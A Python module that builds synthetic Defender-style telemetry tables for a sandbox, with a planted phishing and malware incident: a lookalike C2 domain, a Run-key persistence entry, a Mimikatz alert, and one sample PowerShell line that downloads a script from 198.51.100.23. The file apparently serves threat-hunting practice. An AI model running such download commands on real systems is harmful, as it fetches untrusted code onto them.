"""Each synthetic dataset table's rows: its size for a given DeviceProcessEvents size, and the SQL of the columns where
it differs from ``sandbox.dataset_sql.COMMON`` (columns, types and lookup lists are in ``dataset.toml``).

The forced rows (1 in 41 of the Device*Events tables, 1 in 13 of EmailEvents, 1 in 11 of IdentityLogonEvents, 1 alert
in 5) put the known values in every dataset whatever the seed: the known device, account and sender, updater.exe run
by powershell.exe from AppData, its connection to cdn-update.c0ntoso-invoices.com, its Run key, its alert.
"""

from __future__ import annotations

from sandbox.dataset_catalog import (
    ALERTS,
    DEVICES,
    ENDPOINTS,
    KNOWN_ACCOUNT_KEY,
    KNOWN_SENDER_KEY,
    REGISTRY,
    SENDERS,
    SUBJECTS,
    UPDATER_KEY,
    WINDOW_DAYS,
    profile_key,
)
from sandbox.dataset_sql import ACCOUNT_COLUMNS, COMMON, DYNAMIC, TableSpec, for_account, guid, lit, pick

# Places in dataset.toml's lists that the SQL below singles out
_C2 = [endpoint.url for endpoint in ENDPOINTS].index("cdn-update.c0ntoso-invoices.com")
_UPDATER_ALERT, _MIMIKATZ_ALERT = 0, 1  # dataset.toml lists the alerts in this order
# The forced DeviceRegistryEvents rows (updater.exe's Run key) name schtasks.exe as their writer. reg.exe, whose
# command line adds that key, would be the likelier one; it stays schtasks.exe so that a seed keeps its rows.
_REGISTRY_WRITER = profile_key("schtasks.exe")


def _action(names: list[str], bits: str = "b.hw >> 2") -> tuple[str, str]:
    """ActionType over *names*, and the SQL index of the chosen name (for columns that depend on it)."""
    return pick(names, bits), f"(({bits}) % {len(names)})"


_NET_BITS = f"CASE WHEN b.i % 41 = 0 THEN {_C2} ELSE b.hy >> 8 END"
_NET_ACTION, _NET_ACT = _action(["ConnectionSuccess", "ConnectionSuccess", "ConnectionSuccess", "ConnectionFailed",
                                 "InboundConnectionAccepted", "ListeningConnectionCreated"])
_FILE_ACTION, _FILE_ACT = _action(["FileCreated", "FileModified", "FileRenamed", "FileDeleted"],
                                  "CASE WHEN b.i % 41 = 0 THEN 0 ELSE b.hw >> 2 END")
_SMB = "b.hz % 7 = 0"
_REG_BITS = "CASE WHEN b.i % 41 = 0 THEN 0 ELSE b.hy >> 8 END"  # 0: the updater.exe Run key
_REG_ACTION, _REG_ACT = _action(["RegistryValueSet", "RegistryValueSet", "RegistryKeyCreated", "RegistryValueDeleted"])
_EVENT_ACTION, _EVENT_ACT = _action(["AntivirusDetection", "PowerShellCommand", "ScheduledTaskCreated",
                                     "UsbDriveMounted", "DnsQueryResponse", "SmartScreenUrlWarning",
                                     "ExploitGuardNetworkProtectionBlocked"])
_LOGON_ACTION, _LOGON_ACT = _action(["LogonSuccess", "LogonSuccess", "LogonSuccess", "LogonFailed", "LogonAttempted"])
_LOGON_TYPE = "b.hz >> 2"
_REMOTE_LOGON = f"({_LOGON_TYPE}) % 7 IN (1, 2)"
_ALERT_BITS = f"CASE WHEN b.k % 5 = 0 THEN {_UPDATER_ALERT} ELSE b.hx >> 2 END"
# The same choice, inside the base query
_ALERT_BITS_BASE = f"CASE WHEN $KEY % 5 = 0 THEN {_UPDATER_ALERT} ELSE $HX >> 2 END"
_ALERT = {column: pick([getattr(alert, field) for alert in ALERTS], _ALERT_BITS) for column, field in {
    "Title": "title", "Category": "category", "Severity": "severity", "ServiceSource": "service_source",
    "DetectionSource": "detection_source", "AttackTechniques": "attack_techniques"}.items()}
_ALERT_ID = ("'da' || lpad(CAST(hash(b.k, $SEED, 'AlertId') % 1000000000000000000 AS VARCHAR), 18, '0') || '_' || "
             "CAST(hash(b.k, $SEED, 'AlertId2') % 2147483647 AS VARCHAR)")
_ROLE = "b.i % 3"
_SENDER_BITS = f"CASE WHEN b.i % 13 = 0 THEN {KNOWN_SENDER_KEY} ELSE b.hx >> 4 END"
_SENDER = {name: pick([getattr(sender, field) for sender in SENDERS], _SENDER_BITS) for name, field in {
    "Address": "address", "Display": "display_name", "Domain": "domain", "IPv4": "ipv4"}.items()}
_DELIVERY = "b.hz >> 2"
_MESSAGE_ID = guid("hash(b.i, $SEED, 'NetworkMessageId')")
_FAILED_IDENTITY = "(b.hw >> 2) % 3 = 2"
_PHISH = f"({_SENDER_BITS}) % {len(SENDERS)} = {KNOWN_SENDER_KEY}"
_LOGON_FAILURE = pick(["InvalidUserNameOrPassword", "AccountLocked", "UserNameDoesNotExist"], "b.hy >> 3")
_DOWNLOADS = for_account(lit(r"C:\Users\{user}\Downloads"))
_FORCED_DEVICE_ROWS = {"ik": f"CASE WHEN i % 41 = 0 THEN {profile_key('powershell.exe')} ELSE $INITIATOR END",
                       "ck": f"CASE WHEN i % 41 = 0 THEN {UPDATER_KEY} ELSE $TARGET END"}

# DeviceInfo: a row per device and day, each within the hour before its day's anchor time
_DEVICE_INFO_BASE = {
    "dk": f"i % {len(DEVICES)}",
    "ts": f"$ANCHOR - to_days(CAST(i // {len(DEVICES)} AS INTEGER))"
          " - to_microseconds(CAST($TSHASH % 3600000000 AS BIGINT))",
}

TABLES: list[TableSpec] = [
    TableSpec("DeviceProcessEvents", lambda rows: rows, base=_FORCED_DEVICE_ROWS),
    TableSpec("DeviceNetworkEvents", lambda rows: max(500, rows // 2), {
        "ActionType": _NET_ACTION,
        "RemoteIP": pick([e.ip for e in ENDPOINTS], _NET_BITS),
        "RemotePort": pick([e.port for e in ENDPOINTS], _NET_BITS, "INTEGER"),
        "RemoteUrl": pick([e.url for e in ENDPOINTS], _NET_BITS),
        "RemoteIPType": pick([e.ip_type for e in ENDPOINTS], _NET_BITS),
        "Protocol": pick([e.protocol for e in ENDPOINTS], _NET_BITS),
        "LocalPort": f"CASE WHEN {_NET_ACT} <> 5 THEN CAST(49152 + (b.hz >> 8) % 16000 AS INTEGER) END",
    }, base={"ik": f"CASE WHEN i % 41 = 0 THEN {UPDATER_KEY} ELSE $INITIATOR END"}),
    TableSpec("DeviceFileEvents", lambda rows: max(400, rows // 3), {
        "ActionType": _FILE_ACTION, "SHA256": "cp.SHA256",
        "FileOriginUrl": "CASE WHEN b.hz % 4 = 0 THEN 'https://cdn-update.c0ntoso-invoices.com/dl/' || cp.FileName "
                         "ELSE '' END",
        "FileOriginReferrerUrl": "CASE WHEN b.hz % 4 = 0 THEN 'https://outlook.office.com/mail/inbox' ELSE '' END",
        "FileOriginIP": "CASE WHEN b.hz % 4 = 0 THEN '198.51.100.23' ELSE '' END",
        "PreviousFolderPath": f"CASE WHEN {_FILE_ACT} = 2 THEN {_DOWNLOADS} ELSE '' END",
        "PreviousFileName": f"CASE WHEN {_FILE_ACT} = 2 THEN cp.FileName || '.crdownload' ELSE '' END",
        "RequestProtocol": f"CASE WHEN {_SMB} THEN 'SMB' ELSE 'Local' END",
        "RequestSourceIP": f"CASE WHEN {_SMB} THEN '10.1.0.33' ELSE '' END",
        "RequestSourcePort": f"CASE WHEN {_SMB} THEN CAST(50000 + (b.hx >> 4) % 9000 AS INTEGER) END",
        "RequestAccountName": f"CASE WHEN {_SMB} THEN a.AccountName ELSE '' END",
        "RequestAccountDomain": f"CASE WHEN {_SMB} THEN a.AccountDomain ELSE '' END",
        "RequestAccountSid": f"CASE WHEN {_SMB} THEN a.AccountSid ELSE '' END",
        "ShareName": f"CASE WHEN {_SMB} THEN 'Finance$' ELSE '' END",
        "SensitivityLabel": pick(["", "", "Confidential", "General"], "b.hy >> 6"), "SensitivitySubLabel": "''",
        "IsAzureInfoProtectionApplied": "CASE WHEN b.hz % 9 = 0 THEN NULL ELSE b.hz % 5 = 0 END",
    }, base={"ck": f"CASE WHEN i % 41 = 0 THEN {UPDATER_KEY} ELSE $ANYFILE END"}),
    TableSpec("DeviceRegistryEvents", lambda rows: max(300, rows // 5), {
        "ActionType": _REG_ACTION,
        "RegistryKey": for_account(pick([r.key for r in REGISTRY], _REG_BITS)),
        "RegistryValueName": f"CASE WHEN {_REG_ACT} = 2 THEN '' "
                             f"ELSE {pick([r.value_name for r in REGISTRY], _REG_BITS)} END",
        "RegistryValueType": f"CASE WHEN {_REG_ACT} = 2 THEN '' "
                             f"ELSE {pick([r.value_type for r in REGISTRY], _REG_BITS)} END",
        "RegistryValueData": f"CASE WHEN {_REG_ACT} <> 0 THEN '' "
                             f"ELSE {for_account(pick([r.value_data for r in REGISTRY], _REG_BITS))} END",
        "PreviousRegistryKey": "''", "PreviousRegistryValueName": "''",
        "PreviousRegistryValueData": f"CASE WHEN {_REG_ACT} = 0 AND b.hz % 3 = 0 THEN '1' ELSE '' END",
    }, base={"ik": f"CASE WHEN i % 41 = 0 THEN {_REGISTRY_WRITER} ELSE $INITIATOR END"}),
    TableSpec("DeviceEvents", lambda rows: max(300, rows // 5), {
        "ActionType": _EVENT_ACTION,
        "RemoteUrl": f"CASE WHEN {_EVENT_ACT} >= 4 THEN {pick([e.url for e in ENDPOINTS], 'b.hy >> 8')} ELSE '' END",
        "RemoteIP": f"CASE WHEN {_EVENT_ACT} >= 4 THEN {pick([e.ip for e in ENDPOINTS], 'b.hy >> 8')} ELSE '' END",
        "RemotePort": f"CASE WHEN {_EVENT_ACT} >= 4 THEN {pick([e.port for e in ENDPOINTS], 'b.hy >> 8', 'INTEGER')}"
                      " END",
        "LocalPort": "CAST(NULL AS INTEGER)",
        "AdditionalFields": f"""CASE {_EVENT_ACT}
            WHEN 0 THEN json_object('ThreatName', 'Trojan:Win32/Wacatac.B!ml', 'WasRemediated', b.hz % 2 = 0,
                                    'Container', NULL)
            WHEN 1 THEN json_object('Command',
                                    'Invoke-WebRequest -Uri "http://198.51.100.23/a.ps1" -OutFile ''C:\\Temp\\a.ps1''')
            WHEN 2 THEN json_object('TaskName', '\\Updater',
                                    'TaskContent', '<Exec><Command>updater.exe</Command></Exec>')
            WHEN 3 THEN json_object('DriveLetter', 'E:', 'ProductName', 'Clé USB “Kingston”', 'Volume', 'ÉQUIPE')
            ELSE {DYNAMIC} END""",
    }),
    TableSpec("DeviceLogonEvents", lambda rows: max(300, rows // 10), {
        "ActionType": _LOGON_ACTION,
        "LogonType": pick(["Interactive", "RemoteInteractive", "Network", "Batch", "Service", "Unlock",
                           "CachedInteractive"], _LOGON_TYPE),
        "Protocol": pick(["Kerberos", "NTLM", "Negotiate"], "b.hx >> 6"),
        "FailureReason": f"CASE WHEN {_LOGON_ACT} = 3 THEN {_LOGON_FAILURE} ELSE '' END",
        "IsLocalAdmin": "CASE WHEN b.hz % 13 = 0 THEN NULL ELSE b.hz % 4 = 0 END",
        "RemoteDeviceName": f"CASE WHEN {_REMOTE_LOGON} THEN {pick([d.name for d in DEVICES], 'b.hy >> 9')} "
                            "ELSE '' END",
        # The LocalIP of the device RemoteDeviceName picks (while the device count is a multiple of 4)
        "RemoteIP": f"CASE WHEN {_REMOTE_LOGON} THEN '10.1.' || ((b.hy >> 9) % 4) || '.' || "
                    f"(20 + (b.hy >> 9) % {len(DEVICES)}) ELSE '' END",
        "RemoteIPType": f"CASE WHEN {_REMOTE_LOGON} THEN 'Private' ELSE '' END",
        "RemotePort": f"CASE WHEN {_REMOTE_LOGON} THEN CAST(49152 + (b.hz >> 8) % 16000 AS INTEGER) END",
    }, base={"ik": f"CASE WHEN i % 41 = 0 THEN {profile_key('svchost.exe')} ELSE $INITIATOR END"}),
    TableSpec("DeviceInfo", lambda rows: len(DEVICES) * WINDOW_DAYS, {
        **{column: f"d.{column}" for column in (
            "ClientVersion", "PublicIP", "OSArchitecture", "OSPlatform", "OSBuild", "IsAzureADJoined", "JoinType",
            "AadDeviceId", "OSVersion", "MachineGroup", "DeviceType", "Model", "Vendor", "OSDistribution",
            "OSVersionInfo", "DeviceManualTags")},
        "LoggedOnUsers": "CASE WHEN d.DeviceType = 'Server' AND b.hx % 3 = 0 THEN CAST('[]' AS JSON) ELSE "
                         "to_json([struct_pack(UserName := a.AccountName, DomainName := upper(a.AccountDomain), "
                         "Sid := a.AccountSid)]) END",
        "RegistryDeviceTag": pick(["", "", "Finance-Tier1"], "b.hy"), "OnboardingStatus": "'Onboarded'",
        "AdditionalFields": "json_object('AzureResourceId', NULL, 'IsVirtual', d.DeviceType = 'Server', "
                            "'Note', 'poste « compta »')",
        "DeviceCategory": "'Endpoint'", "DeviceSubtype": "''", "MergedDeviceIds": "''", "MergedToDeviceId": "''",
        "IsInternetFacing": "CASE WHEN b.hx % 7 = 0 THEN NULL ELSE d.DeviceName LIKE 'srv-web%' END",
        "SensorHealthState": pick(["Active", "Active", "Active", "Inactive"], "b.hz"), "IsExcluded": "false",
        "ExclusionReason": "''", "ExposureLevel": pick(["Low", "Medium", "High"], "b.hw"),
        "AssetValue": pick(["Normal", "Normal", "High", "Low"], "b.hy >> 4"), "DeviceDynamicTags": "'[]'",
        "ConnectivityType": pick(["Streamlined", "Standard"], "b.hz >> 5"), "HostDeviceId": "''",
    }, base=_DEVICE_INFO_BASE),
    TableSpec("AlertInfo", lambda rows: max(30, rows // 1000), {"AlertId": _ALERT_ID, **_ALERT}, salt="Alert"),
    TableSpec("AlertEvidence", lambda rows: 3 * max(30, rows // 1000), {
        "AlertId": _ALERT_ID, **{column: sql for column, sql in _ALERT.items() if column != "Category"},
        "Categories": f"'[\"' || {_ALERT['Category']} || '\"]'",  # evidence has the alert's Category as a list
        "EntityType": pick(["File", "Machine", "User"], _ROLE),
        "EvidenceRole": pick(["Related", "Impacted", "Impacted"], _ROLE),
        "EvidenceDirection": "''",
        **{column: f"CASE WHEN {_ROLE} = 0 THEN {COMMON[column]} ELSE '' END"
           for column in ("FileName", "FolderPath", "SHA1", "ProcessCommandLine")},
        "SHA256": f"CASE WHEN {_ROLE} = 0 THEN cp.SHA256 ELSE '' END",
        "FileSize": f"CASE WHEN {_ROLE} = 0 THEN cp.FileSize END",
        "ThreatFamily": f"CASE WHEN {_ROLE} = 0 AND ({_ALERT_BITS}) % {len(ALERTS)} = {_MIMIKATZ_ALERT} "
                        "THEN 'Mimikatz' ELSE '' END",
        "RemoteIP": "''", "RemoteUrl": "''",
        **{column: f"CASE WHEN {_ROLE} = 2 THEN a.{column} ELSE '' END" for column in ACCOUNT_COLUMNS.values()},
        "DeviceId": f"CASE WHEN {_ROLE} = 1 THEN d.DeviceId ELSE '' END",
        "DeviceName": f"CASE WHEN {_ROLE} = 1 THEN d.DeviceName ELSE '' END",
        "LocalIP": f"CASE WHEN {_ROLE} = 1 THEN d.LocalIP ELSE '' END",
        **{column: "''" for column in ("NetworkMessageId", "EmailSubject", "Application", "OAuthApplicationId",
                                       "CloudResource", "CloudPlatform", "ResourceType", "ResourceID",
                                       "SubscriptionId")},
        "ApplicationId": "CAST(NULL AS INTEGER)",
        "AdditionalFields": "json_object('Type', " + pick(["file", "host", "account"], _ROLE) + ", 'Role', "
                            + pick(["Related", "Impacted", "Impacted"], _ROLE)
                            + ", 'MergeByKey', md5(CAST(b.i AS VARCHAR)))",
    }, key="i // 3", salt="Alert",
        base={"ck": f"CASE WHEN ({_ALERT_BITS_BASE}) % {len(ALERTS)} = {_UPDATER_ALERT} THEN {UPDATER_KEY} "
                    "ELSE $TARGET END"}),
    TableSpec("EmailEvents", lambda rows: max(200, rows // 10), {
        "NetworkMessageId": _MESSAGE_ID,
        "InternetMessageId": f"'<' || substr(md5(CAST(b.hy AS VARCHAR)), 1, 20) || '@' || {_SENDER['Domain']} || '>'",
        "SenderMailFromAddress": _SENDER["Address"], "SenderFromAddress": _SENDER["Address"],
        "SenderDisplayName": _SENDER["Display"], "SenderMailFromDomain": _SENDER["Domain"],
        "SenderFromDomain": _SENDER["Domain"], "SenderIPv4": _SENDER["IPv4"], "SenderIPv6": "''",
        "SenderObjectId": f"CASE WHEN {_SENDER['Domain']} = 'contoso.com' THEN {guid('b.hx')} ELSE '' END",
        "RecipientEmailAddress": "a.AccountUpn", "RecipientObjectId": "a.AccountObjectId",
        "Subject": pick(SUBJECTS, "b.hy >> 4"),
        "EmailClusterId": "CASE WHEN b.hz % 6 = 0 THEN NULL ELSE CAST(b.hz % 10000000000 AS BIGINT) END",
        "EmailDirection": f"CASE WHEN {_SENDER['Domain']} = 'contoso.com' THEN 'Intra-org' ELSE 'Inbound' END",
        "DeliveryAction": pick(["Delivered", "Delivered", "Junked", "Blocked"], _DELIVERY),
        "DeliveryLocation": pick(["Inbox/folder", "Inbox/folder", "Junk folder", "Quarantine"], _DELIVERY),
        "LatestDeliveryAction": pick(["Delivered", "Delivered", "Junked", "Blocked"], _DELIVERY),
        "LatestDeliveryLocation": pick(["Inbox/folder", "Inbox/folder", "Junk folder", "Quarantine"], _DELIVERY),
        "ThreatTypes": f"CASE WHEN {_SENDER_BITS} % {len(SENDERS)} = {KNOWN_SENDER_KEY} THEN 'Phish' ELSE '' END",
        "ThreatNames": "''",
        "DetectionMethods": f"""CASE WHEN {_PHISH} THEN '{{"Phish":["URL detonation reputation"]}}' ELSE '' END""",
        "ConfidenceLevel": f"""CASE WHEN {_PHISH} THEN '{{"Phish":"High","Spam":null}}'
            ELSE '{{"Phish":null,"Spam":"Low"}}' END""",
        "BulkComplaintLevel": "CASE WHEN b.hz % 5 = 0 THEN NULL ELSE CAST(b.hz % 10 AS INTEGER) END",
        "EmailAction": pick(["No action taken", "Move message to junk mail folder", "Send to quarantine"], _DELIVERY),
        "EmailActionPolicy": pick(["", "Antispam", "Antiphish"], _DELIVERY), "EmailActionPolicyGuid": "''",
        "AuthenticationDetails": f"""CASE WHEN {_SENDER_BITS} % {len(SENDERS)} = {KNOWN_SENDER_KEY}
            THEN '{{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}}'
            ELSE '{{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"}}' END""",
        "AttachmentCount": "CAST(b.hz % 3 AS INTEGER)", "UrlCount": "CAST(b.hy % 6 AS INTEGER)",
        "EmailLanguage": pick(["en", "fr", "zh", ""], "b.hw >> 3"),
        **{column: "''" for column in ("Connectors", "OrgLevelAction", "OrgLevelPolicy", "UserLevelAction",
                                       "UserLevelPolicy")},
        "ReportId": f"{_MESSAGE_ID} || '-' || CAST(b.hw % 1000000 AS VARCHAR)",
    }),
    TableSpec("IdentityLogonEvents", lambda rows: max(200, rows // 10), {
        "ActionType": f"CASE WHEN {_FAILED_IDENTITY} THEN 'LogonFailed' ELSE 'LogonSuccess' END",
        "Application": pick(["Active Directory", "Microsoft 365", "Microsoft Entra ID"], "b.hx >> 3"),
        "LogonType": pick(["Resource access", "Interactive", "Credentials validation", "Remote desktop"], "b.hz >> 3"),
        "Protocol": pick(["Kerberos", "Ntlm", ""], "b.hx >> 3"),
        "FailureReason": f"CASE WHEN {_FAILED_IDENTITY} THEN 'WrongPassword' ELSE '' END",
        "AccountDisplayName": "a.DisplayName", "DeviceType": "d.DeviceType", "OSPlatform": "d.OSPlatform",
        "IPAddress": "d.LocalIP",
        "Port": "CASE WHEN b.hz % 4 <> 0 THEN CAST(49152 + (b.hz >> 8) % 16000 AS INTEGER) END",
        "DestinationDeviceName": "'srv-dc-01.contoso.local'", "DestinationIPAddress": "'10.1.1.28'",
        "DestinationPort": "CASE WHEN b.hz % 4 = 0 THEN NULL ELSE CAST(88 AS INTEGER) END",
        "TargetDeviceName": "''", "TargetAccountDisplayName": "''",
        "Location": pick(["Paris, FR", "Seattle, US", "São Paulo, BR", "北京, CN", ""], "b.hy >> 5"),
        "Isp": pick(["Contoso Networks", "Orange", ""], "b.hy >> 7"),
        "ReportId": guid("hash(b.i, $SEED, 'IdentityReportId')"),
        "AdditionalFields": "json_object('Pass-through authentication', b.hz % 2 = 0, "
                            "'Count', CAST(1 + b.hw % 5 AS INTEGER), "
                            "'Source Account Display Name', a.DisplayName)",
    }, base={"ak": f"CASE WHEN i % 11 = 0 THEN {KNOWN_ACCOUNT_KEY} ELSE $ACCOUNT END"}),
]

